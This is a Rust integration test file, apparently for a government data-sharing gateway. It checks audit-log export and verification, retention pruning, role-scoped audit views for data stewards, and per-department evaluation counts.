    assert_eq!(report["verdict"], "intact");
    let out = verify(Some(clerk)).await.unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && stderr.contains("role-required"),
        "{stderr}"
    );
    let out = verify(None).await.unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && stderr.contains("TONGBAN_TOKEN"),
        "{stderr}"
    );

    let file = home.join("online-export.ndjson");
    let out = run(
        vec![
            "audit".into(),
            "export".into(),
            "--url".into(),
            url.clone(),
            "--ca".into(),
            ca.to_str().unwrap().into(),
            "--output".into(),
            file.to_str().unwrap().into(),
        ],
        Some(officer),
    )
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let key = home.join("pub.pem");
    let pubkey = tongban(&["audit", "pubkey", "--home", home.to_str().unwrap()]);
    std::fs::write(&key, &pubkey.stdout).unwrap();
    let out = verify_export_file(&file, &key);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Retention pruning while the gateway serves (`POST /v1/audit/prune`, the
/// command line's `--url`), under the local prune's rules: a dry run
/// removes nothing; after an export the old events go, the chain verifies
/// from its new anchor, and the prune is itself audited. A clerk is
/// refused, and a gateway without a retention period says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_serving_gateway_prunes_under_the_retention_rules() {
    let gw = TestGateway::start_with(|c, _| {
        c.audit.retention_days = Some(183.try_into().unwrap());
        c.audit.checkpoint_every = every(2);
    })
    .await;
    traffic(&gw).await;
    let export = officer_get(&gw, "/v1/audit/export").await;
    assert_eq!(export.status, StatusCode::OK, "{}", export.text);
    gw.clock.advance(Duration::from_secs(200 * 86_400));
    let officer = gw.token("shujuju", "officer-1", &["privacy_officer"]);
    let auth = vec![("authorization".to_owned(), format!("Bearer {officer}"))];
    let prune = |path: &'static str| {
        let auth = auth.clone();
        let client = gw.client();
        async move { client.request("POST", path, &auth).await.unwrap() }
    };
    let dry = prune("/v1/audit/prune?dry_run=true").await;
    assert_eq!(dry.status, StatusCode::OK, "{}", dry.text);
    assert!(dry.body["events"].as_u64().unwrap() > 0, "{}", dry.text);
    let verified = officer_get(&gw, "/v1/audit/verify").await;
    assert_eq!(verified.body["anchor_seq"], 0, "a dry run removed nothing");

    let url = format!("https://{}", gw.addr);
    let ca = gw.home.path().join("certs/ca.pem");
    let token = officer.clone();
    let out = tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_tongban"))
            .args([
                "audit",
                "prune",
                "--url",
                &url,
                "--ca",
                ca.to_str().unwrap(),
            ])
            .env("TONGBAN_TOKEN", token)
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let through = report["through"].as_u64().expect("events were pruned");
    assert_eq!(report["events"], dry.body["events"], "{report}");
    let verified = officer_get(&gw, "/v1/audit/verify").await;
    assert_eq!(verified.body["verdict"], "intact", "{}", verified.text);
    assert_eq!(verified.body["anchor_seq"], through);
    let event = gw
        .store()
        .await
        .get(report["audit"]["seq"].as_u64().unwrap())
        .unwrap()
        .unwrap();
    assert_eq!(event.body.operation, "audit.prune");
    assert!(
        event
            .body
            .detail
            .unwrap()
            .contains(&format!("\"through\":{through}"))
    );

    let clerk = gw.token("minzheng", "clerk-007", &["dibao_reviewer"]);
    let r = gw
        .client()
        .request(
            "POST",
            "/v1/audit/prune",
            &[("authorization".to_owned(), format!("Bearer {clerk}"))],
        )
        .await
        .unwrap();
    assert_eq!(
        r.problem_type(),
        Some("/problems/role-required"),
        "{}",
        r.text
    );

    let keeps_all = TestGateway::start().await;
    let officer = keeps_all.token("shujuju", "officer-1", &["privacy_officer"]);
    let r = keeps_all
        .client()
        .request(
            "POST",
            "/v1/audit/prune",
            &[("authorization".to_owned(), format!("Bearer {officer}"))],
        )
        .await
        .unwrap();
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.text);
    assert_eq!(r.problem_type(), Some("/problems/retention-not-set"));
}

/// A department's data steward sees the use of its own datasets, by every
/// consumer, and nothing of other departments' datasets.
#[tokio::test]
async fn a_data_steward_sees_the_use_of_its_own_datasets_only() {
    let gw = TestGateway::start().await;
    traffic(&gw).await;
    // And a use of another department's dataset.
    let id = gw.sample_ids("renshe.zhiye_zige", 1)[0].clone();
    let teacher = gw.token("jiaoyu", "clerk-2", &["admissions_clerk"]);
    let r = gw
        .get(
            &format!("/v1/datasets/renshe.zhiye_zige/records/{id}"),
            Some(&teacher),
            Some("teacher_qualification"),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let steward = gw.token("gongan", "steward-1", &["data_steward"]);
    let r = gw
        .get("/v1/audit/events?limit=1000", Some(&steward), None, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let events = r.body["events"].as_array().unwrap();
    assert!(!events.is_empty(), "{}", r.text);
    assert!(
        events.iter().all(|e| e["dataset"]
            .as_str()
            .is_some_and(|d| d.starts_with("gongan."))),
        "{}",
        r.text
    );
    // Other consumers' use of its data is there.
    assert!(events.iter().any(|e| e["consumer"] != "gongan"));
    // A filter on another department's dataset finds nothing.
    let r = gw
        .get(
            "/v1/audit/events?dataset=renshe.zhiye_zige",
            Some(&steward),
            None,
            None,
        )
        .await;
    assert_eq!(r.body["events"].as_array().unwrap().len(), 0, "{}", r.text);
    let officer = gw.token("shujuju", "officer-1", &["privacy_officer"]);
    let all = gw
        .get(
            "/v1/audit/events?dataset=renshe.zhiye_zige",
            Some(&officer),
            None,
            None,
        )
        .await;
    assert!(!all.body["events"].as_array().unwrap().is_empty());

    // The counts are of its datasets only, by grant and case too.
    let r = gw.get("/v1/audit/stats", Some(&steward), None, None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    for day in r.body["days"].as_object().unwrap().values() {
        for dataset in day["by_dataset"].as_object().unwrap().keys() {
            assert!(dataset.starts_with("gongan."), "{}", r.text);
        }
        assert!(day["by_grant"].is_object());
    }
    // Audited as a review, scoped.
    let e = gw.store().await.get(r.audit_seq()).unwrap().unwrap().body;
    assert_eq!(e.operation, "audit.stats");
    assert_eq!(e.dept.as_deref(), Some("gongan"));

    // The rest of the log's routes are the officers'.
    let r = gw.get("/v1/audit/export", Some(&steward), None, None).await;
    assert_eq!(r.problem_type(), Some("/problems/role-required"));
    let clerk = gw.token("gongan", "clerk-1", &["hukou_clerk"]);
    let r = gw.get("/v1/audit/events", Some(&clerk), None, None).await;
    assert_eq!(r.problem_type(), Some("/problems/role-required"));
}

/// The evaluation (评估) counts, per month and consumer → owner pair, the
/// cases served, the materials obtained instead of from the resident, and
/// the verify answers given instead of paper certificates.
#[tokio::test]
async fn the_evaluation_counts_cases_materials_and_verify_answers() {
    let gw = TestGateway::start().await;
    // Two lookups under one case (one material), one without a case.
    traffic(&gw).await;
    let shebao = gw.sample_ids("renshe.shebao", 1)[0].clone();
    let mz = gw.token("minzheng", "clerk-007", &["dibao_reviewer"]);
    let r = gw
        .client()
        .request_with_body(
            "POST",
            &format!("/v1/datasets/renshe.shebao/records/{shebao}/verify"),
            &[
                ("authorization".to_owned(), format!("Bearer {mz}")),
                ("x-purpose".to_owned(), "dibao_review".to_owned()),
                ("x-case-ref".to_owned(), "MZ-2026-1".to_owned()),
                ("content-type".to_owned(), "application/json".to_owned()),
            ],
            bytes::Bytes::from(r#"{"conditions":[{"field":"insured_status","op":"exists"}]}"#),
        )
        .await
        .unwrap();
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);

    let r = officer_get(&gw, "/v1/audit/evaluation").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let rows = r.body["rows"].as_array().unwrap();
    let row = |consumer: &str, owner: &str| {
        rows.iter()
            .find(|r| r["consumer"] == consumer && r["owner"] == owner)
            .unwrap_or_else(|| panic!("no {consumer} → {owner} row: {rows:?}"))
    };
    let mz_hukou = row("minzheng", "gongan");
    assert_eq!(mz_hukou["cases"], 1);
    assert_eq!(mz_hukou["materials"], 1);
    assert_eq!(mz_hukou["disclosures"], 2);
    assert_eq!(mz_hukou["verify_answers"], 0);
    assert!(mz_hukou["owner_name"].as_str().unwrap().contains("公安局"));
    let pension = row("renshe", "gongan");
    assert_eq!(pension["without_case"], 1);
    assert_eq!(pension["cases"], 0);
    let verify = row("minzheng", "renshe");
    assert_eq!(verify["verify_answers"], 1);
    assert_eq!(verify["materials"], 0);
    assert_eq!(verify["cases"], 1);

    let csv = officer_get(&gw, "/v1/audit/evaluation?format=csv").await;
    assert!(
        csv.text.contains("免提交材料 Materials obtained"),
        "{}",
        csv.text
    );
    assert_eq!(csv.text.lines().count(), rows.len() + 1);

    // A data steward's evaluation is of its own data.
    let steward = gw.token("renshe", "steward-1", &["data_steward"]);
    let r = gw
        .get("/v1/audit/evaluation", Some(&steward), None, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let rows = r.body["rows"].as_array().unwrap();
    assert!(
        !rows.is_empty() && rows.iter().all(|r| r["owner"] == "renshe"),
        "{rows:?}"
    );
}
